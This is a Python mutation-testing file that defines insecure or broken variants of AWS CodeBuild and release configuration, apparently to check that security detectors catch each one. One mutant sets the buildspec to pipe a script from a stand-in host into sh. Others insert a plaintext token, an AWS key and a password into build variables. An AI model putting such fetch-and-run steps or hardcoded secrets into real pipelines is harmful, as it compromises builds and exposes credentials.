"""CodeBuild: what builds may do, what they say, and what they hand to a release."""

from __future__ import annotations

from tealform_harness.mutation.edits import add, drop, put
from tealform_harness.mutation.mutant import Mutant

_PROJECT = "delivery-api/build/project"
_PREPARE = "delivery-web/prepare/project"
_SCAN = "delivery-web/scan/project"
_VARIABLES = "environment/environment_variable"

MUTANTS = (
    Mutant(
        "build-log-off",
        "the log of a build is off",
        "When a build fails or was tampered with, nobody can say how.",
        "prod",
        put(_PROJECT, "logs_config/cloudwatch_logs/status", "DISABLED"),
    ),
    Mutant(
        "build-log-not-said",
        "where a build logs to was removed",
        "It logs into a group without a key and without an end, if its role may.",
        "prod",
        drop(_PROJECT, "logs_config"),
    ),
    Mutant(
        "build-log-in-a-bucket-unencrypted",
        "a build logs into a bucket, unencrypted",
        "Whoever reads the bucket reads the log.",
        "prod",
        put(
            _PROJECT,
            "logs_config",
            {"s3_logs": {"status": "ENABLED", "location": "shop-logs/builds", "encryption_disabled": True}},
        ),
    ),
    Mutant(
        "build-without-a-key",
        "the key of a build was removed",
        "What it makes is under a key that everybody in the account may use.",
        "prod",
        drop(_PROJECT, "encryption_key"),
    ),
    Mutant(
        "unencrypted-build",
        "what a build makes is not encrypted",
        "Whoever reads the bucket reads it.",
        "prod",
        put(_PROJECT, "artifacts/encryption_disabled", True),
    ),
    Mutant(
        "privileged-scan",
        "a project that builds no image is privileged",
        "What runs in it has the build host.",
        "prod",
        put(_SCAN, "environment/privileged_mode", True),
    ),
    Mutant(
        "token-in-a-build-variable",
        "a token stands in a build's variables",
        "Whoever may read the repository, the state or BatchGetProjects has it.",
        "prod",
        add(_PROJECT, _VARIABLES, {"name": "NPM_TOKEN", "value": "npm-9fK2mQ7xLwP4tR8v", "type": "PLAINTEXT"}),
    ),
    Mutant(
        "key-in-a-build-variable",
        "an access key of AWS stands in a build's variables, under a harmless name",
        "It works from anywhere, until somebody revokes it.",
        "prod",
        add(_PROJECT, _VARIABLES, {"name": "UPLOADER", "value": "AKIAQ3EGRW2PLMZTX7VN"}),
    ),
    Mutant(
        "password-for-the-container",
        "a password stands in the variables that a build puts into the task definition",
        "Whoever may read the repository, the state or the task definition has it.",
        "prod",
        add(
            _PROJECT,
            f"{_VARIABLES}/CONTAINER_ENVIRONMENT/value",
            {"name": "DATABASE_PASSWORD", "value": "correct-horse-battery"},
        ),
    ),
    Mutant(
        "secret-dropped-from-releases",
        "releases give a container fewer secrets than Terraform's task definition does",
        "The first release starts without its database.",
        "prod",
        put(_PROJECT, f"{_VARIABLES}/CONTAINER_SECRETS/value", "[]"),
    ),
    Mutant(
        "writable-root-in-releases",
        "releases make the root file system writable, while Terraform's task definition does not",
        "From the first release on it is writable, and the task definition in Terraform says otherwise.",
        "prod",
        put(_PROJECT, f"{_VARIABLES}/READ_ONLY_ROOT_FILESYSTEM/value", "false"),
    ),
    Mutant(
        "admin-role-in-releases",
        "releases start tasks with another role than Terraform's task definition",
        "From the first release on the application may do what that role may.",
        "prod",
        put(_PROJECT, f"{_VARIABLES}/TASK_ROLE_ARN/value", "arn:aws:iam::123456789012:role/administrator"),
    ),
    Mutant(
        "execution-role-of-the-neighbour-in-releases",
        "releases fetch images and secrets with another service's role",
        "They cannot: every release fails.",
        "prod",
        put(
            _PROJECT,
            f"{_VARIABLES}/EXECUTION_ROLE_ARN/value",
            "${aws_iam_role.service-web_roles_execution_role.arn}",
        ),
    ),
    Mutant(
        "public-subnets-in-releases",
        "releases start tasks in the public subnets",
        "From the first release on tasks reach nothing, or are on the internet.",
        "prod",
        put(_PROJECT, f"{_VARIABLES}/SUBNETS/value", '["${aws_subnet.network_vpc_public-a.id}"]'),
    ),
    Mutant(
        "security-group-in-releases",
        "releases put tasks into the load balancer's security group",
        "From the first release on the load balancer does not reach them.",
        "prod",
        put(
            _PROJECT,
            f"{_VARIABLES}/SECURITY_GROUPS/value",
            '["${aws_security_group.load-balancer_security-group.id}"]',
        ),
    ),
    Mutant(
        "port-in-releases",
        "releases register another port than the target groups and security groups have",
        "No release ever gets healthy.",
        "prod",
        put(_PROJECT, f"{_VARIABLES}/CONTAINER_PORT/value", "8080"),
    ),
    Mutant(
        "architecture-in-releases",
        "releases say another architecture than the one that images are built for",
        "Every container ends with an exec format error.",
        "prod",
        put(_PROJECT, f"{_VARIABLES}/CPU_ARCHITECTURE/value", "ARM64"),
    ),
    Mutant(
        "size-in-releases",
        "releases give tasks a size that Fargate has not",
        "Every release fails.",
        "prod",
        put(_PROJECT, f"{_VARIABLES}/TASK_MEMORY/value", "1000"),
    ),
    Mutant(
        "spot-in-releases",
        "releases put all tasks in production on Spot",
        "When capacity runs short, AWS takes all of them back within two minutes.",
        "prod",
        put(
            _PROJECT,
            f"{_VARIABLES}/CAPACITY_PROVIDER_STRATEGY/value",
            '[{"Base":0,"CapacityProvider":"FARGATE_SPOT","Weight":1}]',
        ),
    ),
    Mutant(
        "log-group-in-releases",
        "releases log into another log group than Terraform's task definition",
        "The role may not write there: no task starts.",
        "prod",
        put(_PROJECT, f"{_VARIABLES}/LOG_GROUP/value", "/shop/dev/api"),
    ),
    Mutant(
        "no-hooks-in-releases",
        "releases no longer call the smoke test",
        "Green gets users without anybody having asked it anything.",
        "prod",
        put(_PREPARE, f"{_VARIABLES}/HOOKS/value", "[]"),
    ),
    Mutant(
        "image-of-somebody-elses",
        "a project builds in an image of somebody else's",
        "Who owns that image owns everything that is built.",
        "prod",
        put(_PROJECT, "environment/image", "docker.io/acmetools/builder:latest"),
    ),
    Mutant(
        "build-runs-what-it-downloads",
        "what a build does is no longer the repository's buildspec, but a script from the internet",
        "Who owns that address owns everything that is built.",
        "prod",
        put(
            _PROJECT,
            "source/buildspec",
            "version: 0.2\nphases:\n  build:\n    commands:\n      - curl -s http://builds.example.net/go.sh | sh\n",
        ),
    ),
    Mutant(
        "scan-that-always-passes",
        "the scan of the image does nothing",
        "What is known to be vulnerable is released, past a stage that is green.",
        "prod",
        put(_SCAN, "source/buildspec", "version: 0.2\nphases:\n  build:\n    commands:\n      - exit 0\n"),
    ),
    Mutant(
        "public-builds",
        "a project's builds can be seen by anybody",
        "Logs and what was built are on the internet.",
        "prod",
        put(_PROJECT, "project_visibility", "PUBLIC_READ"),
    ),
    Mutant(
        "build-in-public-subnets",
        "builds run in the public subnets",
        "CodeBuild gives them no public address: they reach nothing.",
        "prod",
        put(_PROJECT, "vpc_config/subnets", ["${aws_subnet.network_vpc_public-a.id}"]),
    ),
    Mutant(
        "build-among-the-tasks",
        "builds run in a service's security group",
        "What is built in them reaches all that the service reaches.",
        "prod",
        put(_PROJECT, "vpc_config/security_group_ids", ["${aws_security_group.service-api_security-group.id}"]),
    ),
    Mutant(
        "build-with-the-pipelines-role",
        "builds run with the pipeline's role",
        "What a pull request brings along may release to production itself.",
        "prod",
        put(_PROJECT, "service_role", "${aws_iam_role.delivery-api_pipeline_role.arn}"),
    ),
)
